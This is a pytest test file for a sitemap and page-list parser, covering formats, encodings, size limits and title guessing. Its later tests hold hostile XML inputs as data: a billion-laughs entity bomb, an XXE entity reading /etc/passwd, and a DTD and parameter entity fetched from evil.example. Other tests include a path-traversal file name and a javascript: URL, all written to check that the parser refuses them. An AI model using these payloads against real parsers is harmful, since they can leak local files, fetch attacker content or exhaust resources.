"""Lists of a site's pages: whatever form they come in, and whatever harm they are meant to do."""

import gzip
from pathlib import Path

import pytest

from marketer_desktop.knowledge import site_files
from marketer_desktop.knowledge.errors import DocumentError
from marketer_desktop.knowledge.site_files import read_site_file, title_from

NAMESPACE = "http://www.sitemaps.org/schemas/sitemap/0.9"
SITE = "https://kestrow.example"


def urlset(*paths: str, inner: str = "", namespace: str = f' xmlns="{NAMESPACE}"') -> bytes:
    listed = "".join(f"<url><loc>\n {SITE}{path} </loc>{inner}</url>" for path in paths)
    return f'<?xml version="1.0" encoding="UTF-8"?><urlset{namespace}>{listed}</urlset>'.encode()


def index(*names: str) -> bytes:
    listed = "".join(f"<sitemap><loc>{SITE}/maps/{name}</loc></sitemap>" for name in names)
    return f'<sitemapindex xmlns="{NAMESPACE}">{listed}</sitemapindex>'.encode()


def read(folder: Path, name: str, data: bytes) -> list[tuple[str, str]]:
    path = folder / name
    path.write_bytes(data)
    return [(page.url.removeprefix(SITE), page.title) for page in read_site_file(path).pages]


@pytest.mark.parametrize("namespace", ["", f' xmlns="{NAMESPACE}"'])
@pytest.mark.parametrize("packed", [False, True])
def test_a_sitemap_gives_its_pages_in_order_and_once(
    tmp_path: Path, namespace: str, packed: bool
) -> None:
    data = urlset("/", "/blog/cold-brew-at-home/", "/pricing", "/pricing#top", namespace=namespace)
    found = read(tmp_path, "sitemap.xml", gzip.compress(data) if packed else data)
    assert found == [
        ("/", "Home"),
        ("/blog/cold-brew-at-home/", "Cold brew at home"),
        ("/pricing", "Pricing"),
    ]


def test_addresses_of_images_are_no_pages(tmp_path: Path) -> None:
    image = '<i:image xmlns:i="urn:image"><i:loc>https://kestrow.example/a.png</i:loc></i:image>'
    assert read(tmp_path, "s.xml", urlset("/a", inner=image)) == [("/a", "A")]


def test_other_encodings_are_read(tmp_path: Path) -> None:
    text = urlset("/caf%C3%A9-oslo").decode().replace("UTF-8", "UTF-16")
    assert read(tmp_path, "s.xml", text.encode("utf-16")) == [("/caf%C3%A9-oslo", "Café oslo")]


def test_an_index_brings_the_parts_that_lie_beside_it(tmp_path: Path) -> None:
    (tmp_path / "posts.xml").write_bytes(urlset("/a", "/b"))
    (tmp_path / "shop.xml").write_bytes(urlset("/b", "/c"))
    outside = tmp_path.parent / "outside.xml"
    outside.write_bytes(urlset("/secret"))
    path = tmp_path / "sitemap.xml"
    names = ("posts.xml.gz", "shop.xml", "..%2Foutside.xml", "gone.xml", "sitemap.xml", "")
    path.write_bytes(index(*names))
    found = read_site_file(path)
    outside.unlink()
    assert [page.url for page in found.pages] == [f"{SITE}/{name}" for name in "abc"]
    assert found.missing == [f"{SITE}/maps/{name}" for name in names[2:]]


def test_an_index_of_indexes_is_refused(tmp_path: Path) -> None:
    (tmp_path / "inner.xml").write_bytes(index("more.xml"))
    with pytest.raises(DocumentError, match=r"inner\.xml.*index again"):
        read(tmp_path, "sitemap.xml", index("inner.xml"))


@pytest.mark.parametrize(
    "data",
    [
        b"url,title,description\r\n%s/a,The first page,About it\r\n%s/b,,\r\n",
        b'\xef\xbb\xbfTitle;URL\n"The first page";%s/a\n;%s/b\n',
        b"sep=;\nLoc;Name\n%s/a;The first page\n;nothing\n%s/b\n",
        b"%s/a\tThe first page\n%s/b\n",
    ],
)
def test_tables_have_addresses_and_perhaps_titles(tmp_path: Path, data: bytes) -> None:
    found = read(tmp_path, "pages.csv", data % (SITE.encode(), SITE.encode()))
    assert found == [("/a", "The first page"), ("/b", "B")]


def test_a_plain_list_is_read_and_what_is_no_address_is_counted(tmp_path: Path) -> None:
    path = tmp_path / "pages.txt"
    bad = (
        "mailto:a@b.example",
        "javascript:alert(1)",
        "/relative",
        "https://a.example/<b>",
        "https://[broken",
        f"{SITE}/{'x' * 2000}",
    )
    path.write_text("\n".join([f"{SITE}/a", *bad, "", f"{SITE}/b?x=1"]), "utf-8")
    found = read_site_file(path)
    assert [page.url for page in found.pages] == [f"{SITE}/a", f"{SITE}/b?x=1"]
    assert found.skipped == len(bad)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "No addresses"),
        (b"hello\nworld\n", "No addresses"),
        (urlset(), "No addresses"),
        (b"\x00\x01\x02binary", "no table of text"),
        (b"<html><body>Not found</body></html>", "begins with <html>"),
        (b"<urlset><url><loc>", "damaged"),
        (b"<urlset>", "damaged"),
        (b"\x1f\x8bnot really", "packed file is damaged"),
    ],
)
def test_what_is_no_list_of_pages_is_refused_with_the_reason(
    tmp_path: Path, data: bytes, said: str
) -> None:
    with pytest.raises(DocumentError, match=said):
        read(tmp_path, "sitemap.xml", data)


def _bomb() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE urlset [<!ENTITY l0 "lol">{levels}]>'.encode()


@pytest.mark.parametrize(
    "hostile",
    [
        _bomb() + b"<urlset><url><loc>https://a.example/&l11;</loc></url></urlset>",
        _bomb() + b'<urlset a="&l11;"><url><loc>https://a.example/</loc></url></urlset>',
        b'<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<urlset><url><loc>https://a.example/&x;</loc></url></urlset>",
        b'<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd">'
        b"<urlset><url><loc>https://a.example/</loc></url></urlset>",
        b'<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'
        b"<urlset><url><loc>https://a.example/</loc></url></urlset>",
    ],
)
def test_hostile_xml_is_refused_and_fetches_nothing(tmp_path: Path, hostile: bytes) -> None:
    with pytest.raises(DocumentError, match=r"document type of its own|damaged"):
        read(tmp_path, "sitemap.xml", hostile)


def test_a_packed_file_that_grows_too_large_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(site_files, "LARGEST", 100_000)
    with pytest.raises(DocumentError, match="Unpacked"):
        read(tmp_path, "sitemap.xml.gz", gzip.compress(urlset("/" + "a" * 200_000)))
    with pytest.raises(DocumentError, match="more than 50 MB"):
        read(tmp_path, "sitemap.xml", urlset("/" + "a" * 200_000))


def test_more_pages_than_the_protocol_allows_are_cut_off(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "sitemap.xml"
    path.write_bytes(urlset(*(f"/{n}" for n in range(30))))
    monkeypatch.setattr(site_files, "MOST_PAGES", 20)
    found = read_site_file(path)
    assert (len(found.pages), found.truncated) == (20, True)
    monkeypatch.setattr(site_files, "MOST_PAGES", 30)
    found = read_site_file(path)
    assert (len(found.pages), found.truncated) == (30, False)


@pytest.mark.parametrize(
    ("path", "title"),
    [
        ("/blog/how_to-brew+coffee.html", "How to brew coffee"),
        ("/docs/index.html", "Docs"),
        ("/%E2%98%95-guide/", "☕ guide"),
        ("/?p=12", "Home"),
    ],
)
def test_titles_come_from_addresses_where_there_are_none(path: str, title: str) -> None:
    assert title_from(f"{SITE}{path}") == title
